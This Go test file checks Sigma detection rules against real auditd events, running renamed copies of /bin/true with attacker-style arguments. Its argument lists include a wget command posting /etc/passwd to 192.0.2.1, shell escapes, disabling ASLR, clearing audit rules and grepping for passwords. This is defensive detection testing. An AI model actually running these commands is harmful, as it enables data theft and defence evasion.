package sigma

import (
	"cmp"
	"fmt"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/audisp-enrich/audisp-enrich/plugin/audit"
	"github.com/audisp-enrich/audisp-enrich/plugin/auditdtest"
	"github.com/audisp-enrich/audisp-enrich/plugin/testsupport"
)

// realCase runs a stand-in for the command a rule describes (a copy of
// /bin/true named like the tool, with the rule's arguments) and a
// near-miss that the rule must not match.
type realCase struct {
	rule string   // rule file name (searched under ../shared/sigma)
	hit  []string // argv; argv[0] names the executable in the work dir
	miss []string
	tmp  bool // run the hit from a directory under /tmp (the miss from /var/tmp)
}

var realCases = []realCase{
	// process_creation
	{rule: "proc_creation_lnx_apt_shell_execution.yml", hit: []string{"apt-get", "-o", "APT::Update::Pre-Invoke::=/bin/sh", "update"}, miss: []string{"apt-get", "update"}},
	{rule: "proc_creation_lnx_at_command.yml", hit: []string{"at", "now"}, miss: []string{"atq"}},
	{rule: "proc_creation_lnx_auditctl_clear_rules.yml", hit: []string{"auditctl", "-D"}, miss: []string{"auditctl", "-l"}},
	{rule: "proc_creation_lnx_av_kaspersky_av_disabled.yml", hit: []string{"systemctl", "stop", "kesl"}, miss: []string{"systemctl", "start", "kesl"}},
	{rule: "proc_creation_lnx_awk_shell_spawn.yml", hit: []string{"awk", `BEGIN {system("/bin/sh")}`}, miss: []string{"awk", "BEGIN {print 1}"}},
	{rule: "proc_creation_lnx_base64_decode.yml", hit: []string{"base64", "-d", "blob"}, miss: []string{"base64", "blob"}},
	{rule: "proc_creation_lnx_bash_interactive_shell.yml", hit: []string{"bash", "-i", "x"}, miss: []string{"bash", "-c", "x"}},
	{rule: "proc_creation_lnx_bpftrace_unsafe_option_usage.yml", hit: []string{"bpftrace", "--unsafe", "-e", "x"}, miss: []string{"bpftrace", "-e", "x"}},
	{rule: "proc_creation_lnx_cap_setgid.yml", hit: []string{"setcap", "cap_setgid+ep", "f"}, miss: []string{"setcap", "cap_net_raw+ep", "f"}},
	{rule: "proc_creation_lnx_cap_setuid.yml", hit: []string{"setcap", "cap_setuid+ep", "f"}, miss: []string{"setcap", "cap_chown+ep", "f"}},
	{rule: "proc_creation_lnx_capa_discovery.yml", hit: []string{"getcap", "-r", "/"}, miss: []string{"getcap", "/usr/bin/ping"}},
	{rule: "proc_creation_lnx_capsh_shell_invocation.yml", hit: []string{"capsh", "--"}, miss: []string{"capsh", "--print"}},
	{rule: "proc_creation_lnx_chattr_immutable_removal.yml", hit: []string{"chattr", "-i", "f"}, miss: []string{"chattr", "+i", "f"}},
	{rule: "proc_creation_lnx_crontab_enumeration.yml", hit: []string{"crontab", "-l"}, miss: []string{"crontab", "-e"}},
	{rule: "proc_creation_lnx_crontab_removal.yml", hit: []string{"crontab", "-r"}, miss: []string{"crontab", "-e"}},
	{rule: "proc_creation_lnx_crypto_mining.yml", hit: []string{"xmrig", "--donate-level=0"}, miss: []string{"xmrig", "--help"}},
	{rule: "proc_creation_lnx_curl_usage.yml", hit: []string{"curl", "-V"}, miss: []string{"curly", "-V"}},
	{rule: "proc_creation_lnx_doas_execution.yml", hit: []string{"doas", "id"}, miss: []string{"sudoas", "id"}},
	{rule: "proc_creation_lnx_env_shell_invocation.yml", hit: []string{"env", "/bin/sh"}, miss: []string{"env", "FOO=1"}},
	{rule: "proc_creation_lnx_esxcli_vm_kill.yml", hit: []string{"esxcli", "vm", "process", "kill", "-w", "1"}, miss: []string{"esxcli", "vm", "process", "list"}},
	{rule: "proc_creation_lnx_esxcli_system_discovery.yml", hit: []string{"esxcli", "system", "version", "get"}, miss: []string{"esxcli", "system", "version", "set"}},
	{rule: "proc_creation_lnx_file_deletion.yml", hit: []string{"rm", "f"}, miss: []string{"firm", "f"}},
	{rule: "proc_creation_lnx_find_shell_execution.yml", hit: []string{"find", ".", "-exec", "/bin/sh", "{}", ";"}, miss: []string{"find", ".", "-name", "x"}},
	{rule: "proc_creation_lnx_flock_shell_execution.yml", hit: []string{"flock", "-u", "/", "/bin/sh"}, miss: []string{"flock", "/", "/bin/true"}},
	// service: auditd
	{rule: "lnx_auditd_capabilities_discovery.yml", hit: []string{"getcap", "-r", "/"}, miss: []string{"getcap", "-v", "/"}},
	{rule: "lnx_auditd_chattr_immutable_removal.yml", hit: []string{"chattr", "-i", "f"}, miss: []string{"chattr", "+a", "f"}},
	{rule: "lnx_auditd_data_compressed.yml", hit: []string{"zip", "a.zip", "f"}, miss: []string{"unzip", "a.zip"}},
	{rule: "lnx_auditd_masquerading_crond.yml", hit: []string{"cp", "/bin/sh", "/tmp/crond"}, miss: []string{"cp", "/bin/sh", "/tmp/shell"}},
	{rule: "lnx_auditd_susp_cmds.yml", hit: []string{"chmod", "777", "f"}, miss: []string{"chmod", "755", "f"}},
	{rule: "lnx_auditd_modify_system_firewall.yml", hit: []string{"ufw", "delete", "1"}, miss: []string{"ufw", "status"}},
	{rule: "lnx_auditd_bpfdoor_port_redirect.yml", hit: []string{"iptables", "-t", "nat", "-A", "PREROUTING", "-p", "tcp", "-j", "REDIRECT", "--to-ports", "42391"},
		miss: []string{"iptables", "-t", "nat", "-A", "PREROUTING", "-p", "tcp", "-j", "REDIRECT", "--to-ports", "8080"}},
	{rule: "lnx_auditd_find_cred_in_files.yml", hit: []string{"grep", "-r", "password", "/etc"}, miss: []string{"grep", "-r", "user", "/etc"}},
	{rule: "lnx_auditd_screencaputre_xwd.yml", hit: []string{"xwd", "-root", "-out", "a.xwd"}, miss: []string{"xwd", "-root", "-out", "a.png"}},
	{rule: "lnx_auditd_steghide_extract_steganography.yml", hit: []string{"steghide", "extract", "-sf", "a.jpg"}, miss: []string{"steghide", "info", "a.jpg"}},
	{rule: "lnx_auditd_steghide_embed_steganography.yml", hit: []string{"steghide", "embed", "-cf", "a.jpg", "-ef", "s.txt"}, miss: []string{"steghide", "embed", "-p", "x"}},
	{rule: "lnx_auditd_network_sniffing.yml", hit: []string{"tcpdump", "-c", "5", "-i", "lo"}, miss: []string{"tcpdump", "-c", "5", "-n", "lo"}},
	{rule: "lnx_auditd_coinminer.yml", hit: []string{"xmrig", "--cpu-priority=5"}, miss: []string{"xmrig", "--threads=2"}},
	{rule: "lnx_auditd_hidden_files_directories.yml", hit: []string{"touch", ".hidden"}, miss: []string{"touch", "visible"}},
	{rule: "lnx_auditd_change_file_time_attr.yml", hit: []string{"touch", "-t", "202001010000", "f"}, miss: []string{"touch", "f"}},
	{rule: "lnx_auditd_susp_histfile_operations.yml", hit: []string{"cat", "/root/.bash_history"}, miss: []string{"cat", "/etc/hostname"}},
	{rule: "lnx_auditd_data_exfil_wget.yml", hit: []string{"wget", "--post-file=/etc/passwd", "http://192.0.2.1/"}, miss: []string{"wget", "http://192.0.2.1/"}},
	{rule: "lnx_auditd_dd_delete_file.yml", hit: []string{"dd", "if=/dev/zero", "of=f"}, miss: []string{"dd", "if=in", "of=f"}},
	{rule: "lnx_auditd_system_info_discovery.yml", hit: []string{"uname", "-a"}, miss: []string{"unamex", "-a"}},
	{rule: "lnx_auditd_audio_capture.yml", hit: []string{"arecord", "-vv", "-fdat"}, miss: []string{"arecord", "-l"}},
	{rule: "lnx_auditd_clipboard_image_collection.yml", hit: []string{"xclip", "-selection", "clipboard", "-t", "image/png", "-o"}, miss: []string{"xclip", "-selection", "clipboard", "-t", "text/plain", "-o"}},
	{rule: "lnx_auditd_disable_aslr_protection.yml", hit: []string{"sysctl", "-w", "kernel.randomize_va_space=0"}, miss: []string{"sysctl", "-w", "kernel.randomize_va_space=2"}},
	{rule: "lnx_auditd_unzip_hidden_zip_files_steganography.yml", hit: []string{"unzip", "a.jpg"}, miss: []string{"unzip", "a.zip"}},
	{rule: "lnx_auditd_screencapture_import.yml", hit: []string{"import", "-window", "root", "a.png"}, miss: []string{"import", "-window", "root", "a.txt"}},
	{rule: "lnx_auditd_split_file_into_pieces.yml", hit: []string{"split", "-b", "1M", "f"}, miss: []string{"splitx", "f"}},
	{rule: "lnx_auditd_susp_exe_folders.yml", hit: []string{"tool"}, miss: []string{"tool"}, tmp: true},
}

// ruleFile finds a rule file by name under the shared rule directories.
func ruleFile(t *testing.T, dirs []string, name string) string {
	t.Helper()
	var found string
	for _, d := range dirs {
		_ = filepath.WalkDir(d, func(p string, _ os.DirEntry, err error) error {
			if err == nil && filepath.Base(p) == name {
				found = p
			}
			return nil
		})
	}
	if found == "" {
		t.Fatalf("rule %s not found", name)
	}
	return found
}

// TestRealEvents runs each case's commands under a real auditd with an
// execve rule scoped to the work directories, then evaluates the case's
// rule on the captured events: it must match the hit and not the miss.
func TestRealEvents(t *testing.T) {
	testsupport.SkipShort(t, "starts a real auditd (root, kernel audit)")
	dirs := sharedRules(t)
	a := auditdtest.Start(t, auditdtest.Options{})
	work, err := os.MkdirTemp("/var/tmp", "sigmarun")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.RemoveAll(work) })
	tmpWork, err := os.MkdirTemp("/tmp", "sigmarun")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.RemoveAll(tmpWork) })
	for _, d := range []string{work, tmpWork} {
		a.AddRule("-a", "always,exit", "-F", "arch=b64", "-S", "execve", "-F", "dir="+d, "-k", "sigmarun")
	}
	time.Sleep(300 * time.Millisecond)
	truth, err := os.ReadFile("/bin/true")
	if err != nil {
		t.Fatal(err)
	}
	run := func(dir string, argv []string) string {
		path := filepath.Join(dir, argv[0])
		if _, err := os.Stat(path); err != nil {
			if err := os.WriteFile(path, truth, 0o755); err != nil {
				t.Fatal(err)
			}
		}
		cmd := &exec.Cmd{Path: path, Args: argv, Dir: dir}
		if err := cmd.Run(); err != nil {
			t.Fatalf("%v: %v", argv, err)
		}
		return path
	}
	type ran struct{ hit, miss string }
	paths := make([]ran, len(realCases))
	for i, c := range realCases {
		hitDir := work
		if c.tmp {
			hitDir = tmpWork
		}
		paths[i] = ran{run(hitDir, c.hit), run(work, c.miss)}
	}
	// find returns the captured exec event of path with argv.
	var evs []*audit.Event
	find := func(path string, argv []string) *audit.Event {
		for _, ev := range evs {
			s := audit.SummaryOf(ev)
			if s.Exec && s.Exe == path && slices.Equal(s.Args, argv) {
				return ev
			}
		}
		return nil
	}
	last := realCases[len(realCases)-1]
	if !testsupport.Until(15*time.Second, func() bool {
		evs = readEvents(t, a.LogFile)
		return find(paths[len(paths)-1].miss, last.miss) != nil
	}) {
		t.Fatalf("the last command's event never reached %s", a.LogFile)
	}
	a.Stop()
	evs = readEvents(t, a.LogFile)
	matched := 0
	for i, c := range realCases {
		t.Run(strings.TrimSuffix(c.rule, ".yml"), func(t *testing.T) {
			s, err := Load([]string{ruleFile(t, dirs, c.rule)})
			if err != nil || len(s.Problems) > 0 || len(s.Rules()) != 1 {
				t.Fatalf("load: %v %v", err, s.Problems)
			}
			for _, x := range []struct {
				path string
				argv []string
				want bool
			}{{paths[i].hit, c.hit, true}, {paths[i].miss, c.miss, false}} {
				ev := find(x.path, x.argv)
				if ev == nil {
					t.Fatalf("no captured event for %s %q", x.path, x.argv)
				}
				got := len(s.match(ev, nil)) > 0
				if got != x.want {
					t.Errorf("%q: matched %v, want %v\n%s", x.argv, got, x.want, describe(ev))
				}
				if got && x.want {
					matched++
				}
			}
		})
	}
	t.Logf("%d of %d rules matched their real event and not the near-miss", matched, len(realCases))
}

func describe(ev *audit.Event) string {
	var b strings.Builder
	for _, r := range ev.Records {
		fmt.Fprintf(&b, "  %s\n", strings.ReplaceAll(r.Line, "\x1d", " "))
	}
	return b.String()
}

// TestRealLongArguments runs a command with an argument over 7500 bytes
// and one with an argv longer than one record under a real auditd, and
// checks on the captured events that audit split them (aN_len and
// chunks; a second EXECVE record) as execveLines writes them, and that
// field maps on EXECVE see the arguments whole, with the prefilter
// finding what every rule evaluated finds.
func TestRealLongArguments(t *testing.T) {
	a := auditdtest.Start(t, auditdtest.Options{})
	work, err := os.MkdirTemp("/var/tmp", "sigmalong")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.RemoveAll(work) })
	a.AddRule("-a", "always,exit", "-F", "arch=b64", "-S", "execve", "-F", "dir="+work, "-k", "sigmalong")
	time.Sleep(300 * time.Millisecond)
	truth, err := os.ReadFile("/bin/true")
	if err != nil {
		t.Fatal(err)
	}
	path := filepath.Join(work, "true")
	if err := os.WriteFile(path, truth, 0o755); err != nil {
		t.Fatal(err)
	}
	long := []string{"true", "-c", "echo " + strings.Repeat("A", 9000) + " PAYLOADMARK"}
	many := []string{"true", "-czf"}
	for range 30 {
		many = append(many, "dir/"+strings.Repeat("f", 400))
	}
	many = append(many, "--exclude=secret")
	for _, argv := range [][]string{long, many} {
		if err := (&exec.Cmd{Path: path, Args: argv, Dir: work}).Run(); err != nil {
			t.Fatal(err)
		}
	}
	var evs []*audit.Event
	find := func(argv []string) *audit.Event {
		for _, ev := range evs {
			if s := audit.SummaryOf(ev); s.Exec && s.Exe == path && slices.Equal(s.Args, argv) {
				return ev
			}
		}
		return nil
	}
	if !testsupport.Until(15*time.Second, func() bool {
		evs = readEvents(t, a.LogFile)
		return find(long) != nil && find(many) != nil
	}) {
		t.Fatalf("the commands' events never reached %s", a.LogFile)
	}
	a.Stop() // before work goes: removing it would drop the dir= rule
	// Whole now: read while auditd wrote, an event may have lacked its
	// last records.
	evs = readEvents(t, a.LogFile)
	e := newTestEnricher(t,
		rule("l1", "auditd", "    sel:\n        type: EXECVE\n        a0: 'true'\n        a2|contains: PAYLOADMARK\n    condition: sel\n"),
		rule("l2", "auditd", "    sel:\n        type: EXECVE\n        a0: 'true'\n        a32: '--exclude=secret'\n    condition: sel\n"),
	)
	for _, c := range []struct {
		name string
		argv []string
		want []string
	}{{"long argument", long, []string{"l1"}}, {"long argv", many, []string{"l2"}}} {
		ev := find(c.argv)
		var lines []string
		for _, r := range ev.Records {
			if r.TypeNum == 1309 {
				_, rest, _ := strings.Cut(r.Line, "): ")
				lines = append(lines, rest)
			}
		}
		if len(lines) < 2 {
			t.Fatalf("%s: %d EXECVE records: the case shows nothing\n%s", c.name, len(lines), describe(ev))
		}
		var want []string
		for _, l := range strings.Split(strings.TrimSpace(execveLines("x", c.argv...)), "\n") {
			_, rest, _ := strings.Cut(l, "): ")
			want = append(want, rest)
		}
		if !slices.Equal(lines, want) {
			t.Errorf("%s: the kernel wrote\n%s\nexecveLines writes\n%s", c.name, shape(lines), shape(want))
		}
		if got := matched(t, e, ev); !slices.Equal(got, c.want) {
			t.Errorf("%s: matched %v, want %v", c.name, got, c.want)
		}
		if got, want := hitIDs(e.Set(), ev), hitIDs(withoutPrefilter(e.Set()), ev); !slices.Equal(got, want) {
			t.Errorf("%s: prefiltered %v, every rule evaluated %v", c.name, got, want)
		}
	}
}

// shape describes EXECVE record texts by their field names and the
// lengths of their values, record by record.
func shape(lines []string) string {
	var b strings.Builder
	for _, l := range lines {
		b.WriteString("  [")
		for _, f := range strings.Fields(l) {
			name, v, _ := strings.Cut(f, "=")
			fmt.Fprintf(&b, " %s:%d", name, len(v))
		}
		fmt.Fprintf(&b, " ] %d bytes\n", len(l))
	}
	return b.String()
}

// TestRealConnect connects this process to a listener on 127.0.0.1 under
// a real auditd (a connect rule scoped to this pid): a non-blocking
// connect, which the kernel logs as success=no exit=-115 (EINPROGRESS),
// a blocking one, and one from an IPv6 socket to ::ffff:127.0.0.1. Each
// is a network_connection to 127.0.0.1 and the listener's port.
func TestRealConnect(t *testing.T) {
	a := auditdtest.Start(t, auditdtest.Options{})
	l, err := net.Listen("tcp4", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer l.Close()
	go func() {
		for {
			c, err := l.Accept()
			if err != nil {
				return
			}
			c.Close()
		}
	}()
	port := l.Addr().(*net.TCPAddr).Port
	a.AddRule("-a", "always,exit", "-F", "arch=b64", "-S", "connect", "-F", "pid="+strconv.Itoa(os.Getpid()), "-k", "sigmaconn")
	time.Sleep(300 * time.Millisecond)
	connect := func(family int, sa syscall.Sockaddr, nonblock bool) error {
		fd, err := syscall.Socket(family, syscall.SOCK_STREAM|syscall.SOCK_CLOEXEC, 0)
		if err != nil {
			t.Fatal(err)
		}
		defer syscall.Close(fd)
		if nonblock {
			if err := syscall.SetNonblock(fd, true); err != nil {
				t.Fatal(err)
			}
		}
		return syscall.Connect(fd, sa)
	}
	v4 := &syscall.SockaddrInet4{Port: port, Addr: [4]byte{127, 0, 0, 1}}
	if err := connect(syscall.AF_INET, v4, true); err != syscall.EINPROGRESS {
		t.Skipf("a non-blocking connect to 127.0.0.1 returned %v, not EINPROGRESS: the case shows nothing here", err)
	}
	if err := connect(syscall.AF_INET, v4, false); err != nil {
		t.Fatal(err)
	}
	mapped := &syscall.SockaddrInet6{Port: port, Addr: [16]byte{10: 0xff, 11: 0xff, 12: 127, 15: 1}}
	if err := connect(syscall.AF_INET6, mapped, false); err != nil {
		t.Fatal(err)
	}
	// The events, in the order of their serials. The log is read again
	// once auditd has stopped: read while auditd writes, the last event
	// may lack its later records, and an event held for its EOE comes out
	// of readEvents after the complete ones.
	var evs []*audit.Event
	keyed := func() {
		evs = nil
		for _, ev := range readEvents(t, a.LogFile) {
			if s := audit.SummaryOf(ev); slices.Contains(s.Keys, "sigmaconn") {
				evs = append(evs, ev)
			}
		}
		slices.SortFunc(evs, func(x, y *audit.Event) int { return cmp.Compare(x.ID.Serial, y.ID.Serial) })
	}
	if !testsupport.Until(15*time.Second, func() bool { keyed(); return len(evs) >= 3 }) {
		t.Fatalf("%d of the 3 connect events reached %s", len(evs), a.LogFile)
	}
	a.Stop()
	keyed()
	e := newTestEnricher(t, rule("c1", "network_connection", "    sel:\n        Initiated: 'true'\n        DestinationIp: 127.0.0.1\n        DestinationPort: "+strconv.Itoa(port)+"\n    condition: sel\n"))
	for i, want := range []string{"success=no exit=-115", "success=yes exit=0", "success=yes exit=0"} {
		ev := evs[i]
		if !strings.Contains(ev.Records[0].Line, want) {
			t.Errorf("connect %d: want %s\n%s", i, want, describe(ev))
		}
		if got := matched(t, e, ev); !slices.Equal(got, []string{"c1"}) {
			t.Errorf("connect %d: matched %v\n%s", i, got, describe(ev))
		}
	}
}
